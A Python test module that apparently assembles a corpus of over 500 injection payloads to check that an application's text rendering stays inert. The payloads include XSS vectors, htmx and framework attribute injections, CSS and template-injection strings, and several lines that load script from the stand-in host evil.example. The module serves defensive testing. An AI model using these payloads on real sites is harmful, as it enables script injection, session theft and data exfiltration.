"""Texts that want to be more than text on a page: at least 500. Each tries to set `window.__run`, or to reach a
stranger's host. What `hostile.payloads` has for every output is among them; the rest is made for pages alone.

Several go into one value, as long as all of it is shown: so all of them come to every field in few portions.
"""

from collections.abc import Iterator, Sequence
from itertools import product

from deliverwatch.core.visible import visible
from hostile import payloads

RUN = "window.__run=1"

_ATTRIBUTES = [
    f'" onclick="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}" x="', f"` onload=`{RUN}`",
    f'"/onpointerenter={RUN}//', f'" onanimationstart="{RUN}" style="animation:x', f'" accesskey="x" onclick="{RUN}',
    f'" oncontentvisibilityautostatechange="{RUN}" style="content-visibility:auto', f"x onfocus={RUN} tabindex=1",
    f'" formaction="javascript:{RUN}', '" style="position:fixed;inset:0', '" srcdoc="<script>', '" id="told',
    f'" popovertarget="x" onbeforetoggle="{RUN}', '" href="//evil.example', '" target="_top', '" is="x-evil',
    '" data-copy="told', '" data-key="g', '" name="getElementById', f'" onbegin="{RUN}', '" form="x',
]  # fmt: skip
_URLS = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript://%0a{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19ydW49MTwvc2NyaXB0Pg==",
    "//evil.example/p", "\\\\evil.example\\p", "/\\evil.example", "https:evil.example", "https://evil.example/p",
    "http://esp.example@evil.example/", "blob:https://evil.example/x", "file:///etc/passwd", "/sign-out",
    "../../accounts", "?next=//evil.example", f"#<img src=x onerror={RUN}>", "view-source:x", "https://[::1",
]  # fmt: skip
_ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", "<script src=//evil.example/x.js></script>",
    f"<script type=module>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img/src='x'/onerror={RUN}//",
    f"<img src=x onerror\x0c=\x0c{RUN}>", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'>", f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<form action=javascript:{RUN}><button autofocus>x", "<form id=told><input name=classList>",
    f"<isindex type=image src=1 onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", "<portal src=//evil.example>",
    f"<textarea autofocus onfocus={RUN}>", f"</textarea><img src=x onerror={RUN}>",
    f"</title><img src=x onerror={RUN}>",
    f"</pre><img src=x onerror={RUN}>", f"</select><img src=x onerror={RUN}>", f"</button><img src=x onerror={RUN}>",
    f"</template><img src=x onerror={RUN}>", f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<?x ><img src=x onerror={RUN}>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>", f"&lt;img src=x onerror={RUN}&gt;", f"&#60;script&#62;{RUN}",
    f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>", f"<button popovertarget=x onclick={RUN}>",
    f"<dialog open onclose={RUN}>", "<plaintext>", "<table background=//evil.example/p.png>", f"<x onclick={RUN}>click",
]  # fmt: skip
_DRAWINGS = [
    f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a>",
    "<svg><use href=//evil.example/x.svg#x />", "<svg><image href=//evil.example/p.png />", "</text></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"</svg><img src=x onerror={RUN}>",
    f"<svg><set attributeName=href to=javascript:{RUN}>", f"<svg><style><img src=x onerror={RUN}></style>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>", f"<math><mtext><table><mglyph><style><img onerror={RUN}>",
    f"</desc></title><script>{RUN}</script>", f"\"/><rect onclick=\"{RUN}",
]  # fmt: skip
_STYLES = [
    "<style>body{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "</style><script>",
    "background:url(//evil.example/p.png)", f"width:expression({RUN})", "}body{display:none}", "*/}*{color:red}/*",
    "<div style='background:url(//evil.example/p.png)'>", f"-moz-binding:url(javascript:{RUN})",
]  # fmt: skip
_SCRIPTED = [
    f"</script><script>{RUN}</script>", f'";{RUN};//', f"';{RUN};//", f"\\';{RUN};//", f"${{{RUN}}}", f"`;{RUN};`",
    f"\u2028{RUN}\u2029", f"<!--<script>{RUN}", f'"}}]}};{RUN};//', "__proto__", "constructor", f"*/{RUN}/*",
    '{"__proto__": {"x": 1}}', f"]]>{RUN}", f"\\x3cscript\\x3e{RUN}", f"-{RUN}-", f"({RUN})",
]  # fmt: skip
_HTMX = [
    f'" hx-on:click="{RUN}', f'" hx-on::load="{RUN}', f'" hx-on--load="{RUN}',
    '" hx-get="//evil.example" hx-trigger="load',
    '" data-hx-get="//evil.example" data-hx-trigger="load', '" hx-post="/sign-out" hx-trigger="load',
    f"<div hx-on:htmx:load={RUN}>", f"<div data-hx-on:click={RUN}>", "<div hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-get=//evil.example data-hx-trigger=load>", "<p hx-delete=/api/v1/customers/acme hx-trigger=load>",
    f'" hx-vals="js:{{x: {RUN}}}', f"<p hx-headers='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load>", '" hx-boost="true',
    f"<p hx-trigger='load[{RUN}]' hx-get=/>", "<p hx-swap-oob=innerHTML:#main>x", '" hx-ext="evil', "<p hx-sse=x>",
    '<meta name="htmx-config" content=\'{"allowEval":true}\'>', "<div hx-target=body hx-get=/>",
    '" hx-history="false',
    f"<div _='on load call {RUN}'>", f"<p x-init={RUN}>", f"<p v-on:click={RUN}>", f"<p ng-init={RUN}>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{{ viewer }}", "{{ config }}", "{% raw %}", "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ say.__globals__ }}", "{{ x | safe }}", "{viewer.account.password}", "{0.__class__}", "{n}", "{when}", "{",
    "}", "{{}}", "%(name)s", "%s%n", "{!r}", f"{{{{constructor.constructor('{RUN}')()}}}}", "${7*7}", "#set($x=1)",
]  # fmt: skip
_OURS = [*_ATTRIBUTES, *_URLS, *_ELEMENTS, *_DRAWINGS, *_STYLES, *_SCRIPTED, *_HTMX, *_TEMPLATES]
_PLACES = ["{}", "refused '\">{} because"]
_ALONE = 143
"""The snippets of `hostile.payloads` by themselves, before the same ones between words."""


def _all() -> Iterator[str]:
    yield from (each.replace("alert(1)", RUN) for each in payloads.PAYLOADS[:_ALONE])
    for place, snippet in product(_PLACES, _OURS):
        yield place.replace("{}", snippet)


PAYLOADS = tuple(dict.fromkeys(_all()))

_SHOWN = 400
"""Characters that are shown of nearly every text."""
_FORMULAS = tuple("=+-@\t\r\n|%")


def bundled(texts: Sequence[str], most: int = _SHOWN) -> list[str]:
    """All of them, several to a value. What means something to a spreadsheet at the beginning of a cell begins one."""
    leading = [each for each in texts if each.startswith(_FORMULAS)]
    rest = [each for each in reversed(texts) if each not in set(leading)]
    bundles = []
    while leading or rest:
        bundle = leading.pop() if leading else rest.pop()
        while rest and len(visible(f"{bundle} {rest[-1]}", 1 << 20)) <= most:
            bundle = f"{bundle} {rest.pop()}"
        bundles.append(bundle)
    return bundles


BUNDLES = tuple(bundled(PAYLOADS))
